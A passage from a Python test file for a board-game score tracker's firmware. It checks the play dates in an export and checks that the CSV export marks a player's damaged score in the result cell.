    export = dt.datetime.fromisoformat("2026-11-28T12:00:00+00:00").astimezone()
    assert play["playDate"] == export.strftime("%Y-%m-%d %H:%M:%S"), play["comments"]
    assert f"It was played before {export:%d.%m.%Y %H:%M}, the date given here." in play["comments"]


def test_the_csv_says_whose_score_was_damaged_where_it_leaves_the_cell_empty(state_dir):
    """Helpers' finding: a score one bad byte took (History's ``damaged``, firmware/history_rebuild.py)
    left its CSV cell empty without a word, while the BG Stats export says it in its comments. The
    result cell now says whose score was damaged and that the saved actions do not hold it again."""
    from firmware import history
    from firmware.export import csv_text
    from firmware.store import Store
    lines = ["new glory players=Анна,Борис seed=1"] + ["event", "end-round"] * 9 + ["score"]
    assert all(r["ok"] for r in run_console(state_dir, lines))
    store = Store(state_dir)
    try:
        entry = history.games(store.db, 1)[0]
    finally:
        store.close()
    for p in entry["players"]:
        if p["name"] == "Борис":
            p["score"], p["damaged"] = None, True
    rows = list(csv.DictReader(io.StringIO(csv_text([entry]).lstrip("\ufeff"))))
    boris = next(r for r in rows if r["player"] == "Борис")
    assert boris["score"] == "" and "Борис" in boris["result"] and "damaged" in boris["result"], boris
